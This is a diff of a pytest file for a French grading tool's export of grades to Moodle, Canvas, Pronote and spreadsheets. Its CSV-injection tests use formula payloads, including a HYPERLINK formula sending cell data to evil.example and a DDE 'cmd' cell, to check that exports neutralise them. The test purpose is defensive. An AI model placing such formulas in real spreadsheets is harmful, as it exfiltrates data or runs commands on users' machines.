@@ -14,7 +14,6 @@ import re
 import shutil
 import statistics
 from dataclasses import replace
-from datetime import datetime
 from pathlib import Path
 
 import pytest
@@ -23,6 +22,13 @@ from grader.cli import main
 from grader.marks import MarksError, apply_marks, load_marks
 from grader.results import load_run, write_json
 from reports.exports import merged_run, moodle
+from tests.importers import (
+    CanvasStudent,
+    canvas_gradebook_import,
+    moodle_worksheet_import,
+    spreadsheet,
+    spreadsheet_table,
+)
 from tests.report_fixtures import build_run
 
 SAMPLE_CLASS = Path(__file__).resolve().parents[1] / "exercises" / "exemples"
@@ -79,6 +85,11 @@ def _export(graded, *args) -> int:
     return main(["export", str(graded), *args])
 
 
+def _grades(out: Path) -> dict[str, dict]:
+    """OUT/grades.csv as French Excel shows it, by the students' ids."""
+    return spreadsheet_table(out / "grades.csv", "Identifiant")
+
+
 # --- Hand marks -------------------------------------------------------------------------------------
 
 
@@ -91,14 +102,17 @@ def test_marks_merge_into_totals_without_regrading(graded, tmp_path, monkeypatch
     monkeypatch.setattr(grader.engine, "grade_submission", no_grading)
     assert _export(graded, "--marks", str(_marks(tmp_path))) == 0
     before = load_run(graded / "results.json")
-    rows = {r["id"]: r for r in csv.DictReader((graded / "grades.csv").open(encoding="utf-8"))}
+    rows = _grades(graded)
     alice = next(s for s in before.submissions if s.id == "alice")
-    assert float(rows["alice"]["total"]) == pytest.approx(alice.total + 1.5 + 3)
-    assert float(rows["alice"]["max"]) == pytest.approx(alice.max + 2 + 3)
-    assert rows["alice"]["q2"] == "1.5" and rows["alice"]["q13"] == "3.0"
-    assert rows["chloé durand"]["q13"] == "0.5"  # named by display name, accents and case aside
-    assert rows["bob"]["q13"] == "1.0" and rows["bob"]["q2"] == ""  # by participant id; q2 not marked yet
-    assert rows["dylan"]["q2"] == rows["dylan"]["q13"] == ""  # columns exist before any marking
+    assert rows["alice"]["Total"] == pytest.approx(alice.total + 1.5 + 3)
+    assert rows["alice"]["Maximum"] == pytest.approx(alice.max + 2 + 3)
+    assert rows["alice"]["q2"] == 1.5 and rows["alice"]["q13"] == 3
+    assert rows["alice"]["Nom"] == "Alice Martin"  # the name as the LMS spells it, the id beside
+    assert rows["chloé durand"]["q13"] == 0.5  # named by display name, accents and case aside
+    assert rows["bob"]["q13"] == 1 and rows["bob"]["q2"] == ""  # by participant id; q2 not marked yet
+    assert rows["index"]["q2"] == rows["index"]["q13"] == ""  # columns exist before any marking
+    # Dylan handed nothing in: blank, said so, never a 0.
+    assert rows["dylan"]["Statut"] == "non rendu" and rows["dylan"]["Total"] == rows["dylan"]["Note sur 20"] == ""
     # results.json keeps what was graded: marks live in their own file and are merged on the way out.
     assert not any(q.manual for s in load_run(graded / "results.json").submissions for q in s.questions)
     # Both pages show the marks and comments.
@@ -109,8 +123,7 @@ def test_marks_merge_into_totals_without_regrading(graded, tmp_path, monkeypatch
     assert "Commentaire du correcteur" in page
     # A changed mark is one more export away.
     assert _export(graded, "--marks", str(_marks(tmp_path, MARKS_CSV.replace("alice;1,5", "alice;0,5")))) == 0
-    rows = {r["id"]: r for r in csv.DictReader((graded / "grades.csv").open(encoding="utf-8"))}
-    assert rows["alice"]["q2"] == "0.5"
+    assert _grades(graded)["alice"]["q2"] == 0.5
 
 
 def test_marks_toml_and_merging_twice_is_idempotent(tmp_path):
@@ -209,38 +222,17 @@ def test_a_scheme_may_give_points_to_written_questions_without_regrading(graded,
     scheme = tmp_path / "bareme.toml"
     scheme.write_text("[questions.q3]\npoints = 1.5\n", encoding="utf-8")
     assert _export(graded, "--scheme", str(scheme), "--marks", str(_marks(tmp_path, "etudiant;q3\nalice;1,5\n"))) == 0
-    rows = {r["id"]: r for r in csv.DictReader((graded / "grades.csv").open(encoding="utf-8"))}
-    assert rows["alice"]["q3"] == "1.5"
+    assert _grades(graded)["alice"]["q3"] == 1.5
 
 
 # --- Moodle -----------------------------------------------------------------------------------------
 
 
-def moodle_import(path: Path, site_lang: str) -> dict[str, dict]:
-    """What Moodle's assignfeedback_offline importer takes from a worksheet: columns found by their
-    exact headers in the site's language (missing id, grade or last-modified column: import refused),
-    the participant number after the `hiddenuser` string, the grade through unformat_float (the site's
-    decimal separator, or a point), the date through strtotime (ISO dates), the feedback plugin's column."""
-    text = path.read_bytes().decode("utf-8-sig")  # Moodle trims a BOM
-    rows = list(csv.reader(io.StringIO(text)))  # comma, the importer's default
-    header = rows[0]
-    h = moodle.HEADERS[site_lang]
-    for key in ("id", "grade", "modified"):
-        assert h[key] in header, f"Moodle would refuse the file: no {h[key]!r} column"
-    feedback = header.index(h["feedback"])
-    prefix = {"fr": "Participant", "en": "Participant "}[site_lang]
-    imported = {}
-    for row in rows[1:]:
-        ident = row[header.index(h["id"])]
-        assert ident.startswith(prefix)
-        number = int(ident[len(prefix) :])
-        grade = row[header.index(h["grade"])].replace("," if site_lang == "fr" else ".", ".")
-        if not grade:  # Moodle skips a row without a grade
-            continue
-        datetime.fromisoformat(row[header.index(h["modified"])])  # strtotime reads ISO dates in any language
-        maximum = float(row[header.index(h["max"])].replace(",", ".")) if h["max"] in header else None
-        imported[str(number)] = {"grade": float(grade), "max": maximum, "feedback": row[feedback]}
-    return imported
+def moodle_import(path: Path, site_lang: str, maximum: float = 20) -> dict[str, dict]:
+    """What Moodle records from the worksheet (tests/importers.py), for the participants 1000-1999."""
+    participants = {str(n) for n in range(1000, 2000)}
+    recorded = moodle_worksheet_import(path, site_lang, participants, maximum)
+    return {n: {"grade": g.grade, "feedback": g.feedback} for n, g in recorded.items()}
 
 
 @pytest.mark.parametrize("site_lang", ["fr", "en"])
@@ -251,11 +243,9 @@ def test_moodle_worksheet_reads_back_as_moodle_does(graded, tmp_path, site_lang)
         load_run(graded / "results.json"), load_marks(_marks(tmp_path), load_run(graded / "results.json"))
     )
     for sub in run.submissions:
-        if not sub.participant:
-            continue
-        row = imported[sub.participant]
-        assert row["grade"] == pytest.approx(round(sub.total / sub.max * 20, 2))
-        assert 0 <= row["grade"] <= row["max"] == 20  # above the maximum, Moodle skips the grade
+        if sub.participant and sub.id != "dylan":
+            assert imported[sub.participant]["grade"] == pytest.approx(round(sub.total / sub.max * 20, 2))
+    assert "1004" not in imported  # dylan handed nothing in: a blank grade, which Moodle skips (a 0 it would record)
     alice = imported["1001"]["feedback"]
     assert "Preuve incomplète" in alice and "Très bon travail" in alice
     assert re.search(r"q4</b> 2/2", alice)
@@ -332,9 +322,14 @@ def test_moodle_worksheet_downloaded_from_moodle_is_filled_and_kept(graded, tmp_
     assert zoe == rows[1]  # not in the run: untouched, Moodle skips an empty grade
     # Matched by name when the participant id differs (accents and case aside).
     assert chloe[4] != "" and "q18" in chloe[10]
-    imported = moodle_import(out, "fr")
+    imported = moodle_import(out, "fr", maximum=10)
     assert set(imported) == {"1001", "1777"}
     assert "bob" in err and "dylan" in err  # students of the run with no row are named
+    # --out-of is the worksheet's maximum grade (Moodle skips a grade above it), and the teacher is told.
+    assert "la note maximale du devoir est 10" in err
+    assert _grades(graded)["alice"]["Note sur 10"] == pytest.approx(
+        round(by_id["alice"].total / by_id["alice"].max * 10, 2)
+    )
 
 
 def test_a_file_that_is_not_a_moodle_worksheet_is_refused(graded, tmp_path, capsys):
@@ -346,47 +341,132 @@ def test_a_file_that_is_not_a_moodle_worksheet_is_refused(graded, tmp_path, caps
 # --- Canvas, spreadsheets, Pronote, statistics, PrairieLearn -----------------------------------------
 
 
-def test_canvas_gradebook_reads_back_as_canvas_does(graded):
+CANVAS_STUDENTS = [
+    CanvasStudent("501", "Alice Martin", "Martin, Alice", "SIS-9001", "alice@lycee.fr"),
+    CanvasStudent("502", "Bob Lefèvre", "Lefèvre, Bob", "SIS-9002", "blefevre"),
+    CanvasStudent("503", "Chloé Durand", "Durand, Chloé", "SIS-9003", "cdurand"),
+    CanvasStudent("504", "Dylan Roux", "Roux, Dylan", "SIS-9004", "droux"),
+    CanvasStudent("505", "Inès Index", "Index, Inès", "SIS-9005", "iindex"),
+    CanvasStudent("506", "Zoé Autre", "Autre, Zoé", "SIS-9006", "zautre"),
+    # Another Canvas student whose SIS User ID is a Moodle participant number of ours: never matched.
+    CanvasStudent("507", "Marc Piège", "Piège, Marc", "1001", "mpiege"),
+]
+
+
+def _canvas_export(tmp_path) -> Path:
+    """A gradebook as Canvas exports it: its own ids, a current score column, another assignment, the
+    taquin assignment already created with 40 points possible, a student we never graded."""
+    rows = [
+        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Devoir 1 (111)", "Taquin (4242)", "Current Score"],
+        ["    Points Possible", "", "", "", "", "10.00", "40.00", "(read only)"],
+        *[
+            [s.sortable_name, s.id, s.sis_user_id, s.login_id, "MP2I", "7.5", "", "75"]
+            for s in CANVAS_STUDENTS
+            if s.name != "Inès Index"
+        ],
+    ]
+    path = tmp_path / "2024-06-03T1000_Grades-MP2I.csv"
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows(rows)
+    path.write_text("\ufeff" + buffer.getvalue(), encoding="utf-8")
+    return path
+
+
+def test_canvas_gradebook_without_canvas_ids_matches_by_name_only(graded, capsys):
     assert _export(graded, "--format", "canvas", "--canvas-assignment", "Taquin (4242)", "--out-of", "100") == 0
-    rows = list(csv.reader((graded / "exports" / "canvas-gradebook.csv").open(encoding="utf-8")))
+    assert "--canvas-gradebook" in capsys.readouterr().err  # the teacher is told the better way
+    path = graded / "exports" / "canvas-gradebook.csv"
+    rows = list(csv.reader(path.open(encoding="utf-8")))
     assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Taquin (4242)"]
-    assert rows[1][0] == "Points Possible" and float(rows[1][5]) == 100
-    assert re.fullmatch(r".+\((\d+)\)", rows[0][5])  # the assignment id Canvas updates
+    # No id of another system in Canvas's id columns: Moodle's 1001 is another Canvas student's SIS id.
+    assert all(row[1:5] == ["", "", "", ""] for row in rows[1:])
+    imported = canvas_gradebook_import(path, CANVAS_STUDENTS)
+    assert imported.points_possible == {"Taquin (4242)": "100"}
     run = apply_marks(load_run(graded / "results.json"))
-    by_login = {r[3]: r for r in rows[2:]}
-    for sub in run.submissions:
-        row = by_login[sub.id]
-        assert row[2] == sub.participant
-        assert float(row[5]) == pytest.approx(round(sub.total / sub.max * 100, 2))  # a decimal point
-    assert by_login["chloé durand"][0] == "DURAND, Chloé"
+    by_name = {s.name: s for s in run.submissions}
+    for student in CANVAS_STUDENTS[:5]:
+        sub = by_name[student.name if student.name != "Chloé Durand" else "Chloé DURAND"]
+        if sub.id == "dylan":  # not submitted: no score, never a 0
+            assert imported.grades.get(student.id, {}) == {}
+        elif sub.id != "chloé durand":  # "DURAND, Chloé" is neither Canvas's name nor its sortable name
+            expected = round(sub.total / sub.max * 100, 2)
+            assert float(imported.grades[student.id]["Taquin (4242)"]) == pytest.approx(expected)
+    assert "507" not in imported.grades  # Marc's SIS User ID is 1001: Moodle's number for Alice is not written
+
+
+def test_canvas_own_gradebook_is_filled_with_canvas_ids(graded, tmp_path, capsys):
+    export = _canvas_export(tmp_path)
+    assert (
+        _export(graded, "--format", "canvas", "--canvas-gradebook", str(export), "--canvas-assignment", "Taquin (4242)")
+        == 0
+    )
+    err = capsys.readouterr().err
+    assert "index" in err and "<script>" in err  # students of ours Canvas has no row for are named
+    path = graded / "exports" / "canvas-gradebook.csv"
+    before = list(csv.reader(io.StringIO(export.read_text(encoding="utf-8-sig"))))
+    after = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
+    assert after[0] == before[0]  # the same columns: the assignment updated in place
+    taquin = before[0].index("Taquin (4242)")
+    for old, new in zip(before, after):  # every other cell as Canvas wrote it
+        assert old[:taquin] + old[taquin + 1 :] == new[:taquin] + new[taquin + 1 :]
+    imported = canvas_gradebook_import(path, CANVAS_STUDENTS)
+    assert imported.new_students == []
+    run = apply_marks(load_run(graded / "results.json"))
+    by_id = {s.id: s for s in run.submissions}
+    # Canvas's points possible for the assignment (40) is what the grades are on.
+    for canvas_id, ours in (("501", "alice"), ("502", "bob"), ("503", "chloé durand")):
+        expected = round(by_id[ours].total / by_id[ours].max * 40, 2)
+        assert float(imported.grades[canvas_id]["Taquin (4242)"]) == pytest.approx(expected)
+    assert "Taquin (4242)" not in imported.grades["504"]  # dylan: not submitted, no score
+    assert "Taquin (4242)" not in imported.grades["506"] and imported.grades["506"]["Devoir 1 (111)"] == "7.5"
+    assert "Taquin (4242)" not in imported.grades["507"]
+
+
+def test_a_file_that_is_not_a_canvas_gradebook_is_refused(graded, tmp_path, capsys):
+    other = _marks(tmp_path, "nom;note\nalice;3\n", "autre.csv")
+    assert _export(graded, "--format", "canvas", "--canvas-gradebook", str(other)) == 2
+    assert "n'est pas un carnet de notes exporté de Canvas" in capsys.readouterr().err
+    assert _export(graded, "--format", "canvas", "--canvas-gradebook", str(tmp_path / "absent.csv")) == 2
 
 
 def test_french_spreadsheet_opens_in_columns(graded, tmp_path):
     assert _export(graded, "--format", "csv-fr", "--marks", str(_marks(tmp_path))) == 0
-    raw = (graded / "exports" / "notes-tableur.csv").read_bytes()
-    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the accents
-    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
+    rows = spreadsheet(graded / "exports" / "notes-tableur.csv")  # French Excel: `;`, decimal comma, BOM
     header = rows[0]
-    assert header[:3] == ["Identifiant", "Nom", "Participant"] and header[-1] == "Note sur 20"
+    assert header[:4] == ["Nom", "Identifiant", "Participant", "Statut"] and header[-1] == "Note sur 20"
     assert "q2" in header and "q13" in header  # the written questions are columns
-    alice = dict(zip(header, next(r for r in rows if r[0] == "alice")))
-    assert alice["q2"] == "1,5" and alice["Nom"] == "Alice Martin"
+    alice = dict(zip(header, next(r for r in rows if r[1] == "alice")))
+    assert alice["q2"] == 1.5 and alice["Nom"] == "Alice Martin" and alice["Statut"] == "corrigé"
     assert all(len(r) == len(header) for r in rows)
-    assert not any("." in c for r in rows[1:] for c in r[3:])  # decimal commas only
+    numbers = header.index("q1")
+    assert all(isinstance(c, float) or c == "" for r in rows[1:] for c in r[numbers:])  # no "12.5" as text
+    dylan = dict(zip(header, next(r for r in rows if r[1] == "dylan")))
+    assert dylan["Statut"] == "non rendu" and {dylan[q] for q in header[numbers:-2]} == {""}
+    # The French table is grades.csv's French form: one writer.
+    assert (graded / "exports" / "notes-tableur.csv").read_bytes() == (graded / "grades.csv").read_bytes()
+
+
+def test_grades_csv_follows_the_language_of_the_run(tmp_path):
+    out = tmp_path / "run"
+    out.mkdir()
+    write_json(out / "results.json", _run("en"))
+    assert _export(out, "--format", "stats") == 0
+    rows = spreadsheet_table(out / "grades.csv", "Id", delimiter=",", decimal=".")
+    assert rows["dylan"]["Status"] == "not submitted" and rows["dylan"]["Grade out of 20"] == ""
+    assert rows["alice"]["Name"] == "Alice Martin" and isinstance(rows["alice"]["Total"], float)
 
 
 def test_pronote_sheet_in_pronote_order_on_20(graded):
     assert _export(graded, "--format", "pronote") == 0
-    rows = list(
-        csv.reader(io.StringIO((graded / "exports" / "pronote.csv").read_bytes().decode("utf-8-sig")), delimiter=";")
-    )
+    rows = spreadsheet(graded / "exports" / "pronote.csv")
     assert rows[0] == ["Élève", "Note sur 20"]
     names = [r[0] for r in rows[1:]]
     assert "DURAND Chloé" in names and "MARTIN Alice" in names and "LEFÈVRE Bob" in names
-    families = [n.split()[0] for n in names if n != names[0] or True]
+    families = [n.split()[0] for n in names]
     assert families == sorted(families, key=lambda f: f.replace("È", "E").casefold())
-    grades = [float(r[1].replace(",", ".")) for r in rows[1:]]
-    assert all(0 <= g <= 20 for g in grades)
+    grades = dict(rows[1:])
+    assert grades["ROUX Dylan"] == "N.Rdu"  # Pronote's "non rendu", which counts in no average
+    assert all(0 <= g <= 20 for name, g in grades.items() if name != "ROUX Dylan")
 
 
 def test_question_statistics_match_an_independent_count(graded, tmp_path):
@@ -399,8 +479,10 @@ def test_question_statistics_match_an_independent_count(graded, tmp_path):
     )
     by_q = {r["Question"]: r for r in rows}
     run = load_run(graded / "results.json")
-    scores = [q.score for s in run.submissions for q in s.questions if q.id == "q4"]
-    full = [q.score >= q.max for s in run.submissions for q in s.questions if q.id == "q4"]
+    handed_in = [s for s in run.submissions if s.id != "dylan"]  # dylan's stubs are no copy: not counted
+    scores = [q.score for s in handed_in for q in s.questions if q.id == "q4"]
+    full = [q.score >= q.max for s in handed_in for q in s.questions if q.id == "q4"]
+    assert by_q["q4"]["Copies comptées"] == str(len(scores))
     assert float(by_q["q4"]["Moyenne"].replace(",", ".")) == pytest.approx(statistics.mean(scores), abs=0.01)
     assert float(by_q["q4"]["Médiane"].replace(",", ".")) == pytest.approx(statistics.median(scores), abs=0.01)
     assert float(by_q["q4"]["Taux de réussite (%)"].replace(",", ".")) == pytest.approx(
@@ -466,8 +548,8 @@ def test_grade_merges_marks_and_refuses_a_bad_file_after_grading(tmp_path, capsy
     assert (
         main(["grade", str(classe), "--out", str(out), "-q", "q1", "--scheme", str(scheme), "--marks", str(good)]) == 0
     )
-    rows = {r["id"]: r for r in csv.DictReader((out / "grades.csv").open(encoding="utf-8"))}
-    assert rows["alice"]["q13"] == "1.5" and float(rows["alice"]["total"]) == pytest.approx(1 + 1.5)
+    rows = _grades(out)
+    assert rows["alice"]["q13"] == 1.5 and rows["alice"]["Total"] == pytest.approx(1 + 1.5)
     assert "Presque" in (out / "alice.html").read_text(encoding="utf-8")
     bad = _marks(tmp_path, "etudiant;q13\nalice;3\n", "mauvais.csv")
     assert (
@@ -507,12 +589,97 @@ def test_a_moodle_shaped_class_goes_back_to_moodle(tmp_path):
     assert set(participants) == {"1001", "1002", "1003", "1004", "1005", "1006"}
     imported = moodle_import(out / "exports" / "moodle-feuille-de-notes.csv", "fr")
     for number, sub in participants.items():
-        assert imported[number]["grade"] == pytest.approx(round(sub.total / sub.max * 20, 2))
+        if number != "1004":
+            assert imported[number]["grade"] == pytest.approx(round(sub.total / sub.max * 20, 2))
+    assert "1004" not in imported  # not submitted: left blank, which Moodle skips
     assert imported["1001"]["grade"] == 20 and imported["1005"]["grade"] < 20  # Léa's q1 is wrong
     rows = list(csv.reader(io.StringIO((out / "exports" / "moodle-feuille-de-notes.csv").read_text("utf-8"))))
     status = {r[0]: r[3] for r in rows[1:]}
     assert status["Participant1004"] == "Aucun travail remis" and status["Participant1001"] != status["Participant1004"]
     filed = moodle_feedback_import(out / "exports" / "retours" / "feedback-moodle.zip", set(participants))
-    assert set(filed) == set(participants)
+    assert set(filed) == set(participants) - {"1004"}  # nothing handed in, nothing to give back
     pronote = (out / "exports" / "pronote.csv").read_bytes().decode("utf-8-sig")
     assert "LEFÈVRE Élodie" in pronote and "N'DIAYE Zoé" in pronote
+
+
+# --- Spreadsheet formulas (CSV injection) -----------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Voir")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"]
+
+
+def test_no_csv_a_person_opens_holds_a_formula(tmp_path):
+    """Display names, emails and the teacher's comments that a spreadsheet would run (OWASP's "CSV
+    injection": cells starting with = + - @, a tab or a carriage return) are written as text in every
+    CSV of `grader export` and in grades.csv; grades stay numbers, the importers' files importable."""
+    run = _run()
+    for sub, formula in zip(run.submissions, FORMULAS):
+        sub.name = formula
+    run.submissions[1].email = "=cmd@evil.example"
+    out = tmp_path / "rapport"
+    out.mkdir()
+    write_json(out / "results.json", run)
+    marks = _marks(tmp_path, 'etudiant;q2;commentaire\nalice;1;"=1+1 bravo"\n')
+    assert _export(out, "--marks", str(marks)) == 0
+    exports = out / "exports"
+    text = {
+        out / "grades.csv": {},
+        exports / "notes-tableur.csv": {},
+        exports / "pronote.csv": {},
+        exports / "statistiques-questions.csv": {},
+        exports / "moodle-feuille-de-notes.csv": {"delimiter": ",", "bom": False},
+        exports / "canvas-gradebook.csv": {"delimiter": ",", "decimal": ".", "bom": False},
+    }
+    seen = set()
+    for path, how in text.items():
+        for row in spreadsheet(path, **how):  # raises Formula on a cell a spreadsheet would run
+            seen.update(c for c in row if isinstance(c, str))
+    for formula in FORMULAS[:4]:
+        assert formula in seen  # still there, as text
+    assert "=cmd@evil.example" in seen
+    # The grades are numbers still: Moodle's importer reads them (tests/importers.py).
+    imported = moodle_import(exports / "moodle-feuille-de-notes.csv", "fr")
+    assert imported["1001"]["grade"] > 0
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+33 6 12", "'+33 6 12"),
+        ("-x", "'-x"),
+        ("@cmd", "'@cmd"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("-12,5", "-12,5"),  # a negative number is a number: importers read it so
+        ("+3.5", "+3.5"),
+        ("-", "-"),  # Moodle's placeholder: a lone character runs nothing
+        ("Alice", "Alice"),
+        (12.5, "12.5"),
+    ],
+)
+def test_spreadsheet_cell_follows_owasp(cell, written):
+    from grader.gradebook import spreadsheet_cell
+
+    assert spreadsheet_cell(cell) == written
+
+
+# --- The class page: absentees counted apart --------------------------------------------------------
+
+
+def test_the_class_page_counts_absentees_apart(tmp_path):
+    """Dylan handed nothing in: a "non rendu" badge in his row, no score, and left out of the
+    histogram and of the pass rates (6 students, 5 graded), counted apart in the heading."""
+    from reports.render import render_class
+
+    run = _run()
+    index = render_class(run, tmp_path)
+    page = index.read_text(encoding="utf-8")
+    assert "6 élèves · 1 non rendu ·" in page
+    row = re.search(r"<tr>\s*<td class=\"name\" data-sort=\"dylan\">.*?</tr>", page, re.S)[0]
+    assert '<span class="badge sub-apart">non rendu</span>' in row
+    assert "st-missing" not in row and "st-not_implemented" not in row  # no stub cells, no score
+    counts = [
+        int(n)
+        for n in re.findall(r'<text x="[\d.]+" y="[\d.]+" text-anchor="middle" font-size="12">(\d+)</text>', page)
+    ]
+    assert sum(counts) == 5  # the histogram's bars count the graded copies only
